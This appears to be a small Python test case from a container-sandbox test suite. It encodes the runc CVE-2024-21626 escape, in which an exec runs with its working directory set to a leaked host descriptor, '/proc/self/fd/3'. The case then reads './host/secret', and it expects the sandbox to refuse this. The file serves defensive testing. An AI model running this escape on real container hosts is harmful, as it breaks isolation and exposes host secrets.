"""The working directory of an exec is a descriptor of the host's that the runtime has open."""

from bypass import refused

SOURCE = "CVE-2024-21626: attack 2, runc exec --cwd"
WAY = "exec"
STOPPED = refused("process-cwd")
BARE = {"runc": "corrected in Debian's 1.1.5"}


def attack(t):
    t.up()
    t.leak("/mnt")
    return t.leaked(t.exec("cat ./host/secret", cwd="/proc/self/fd/3"))
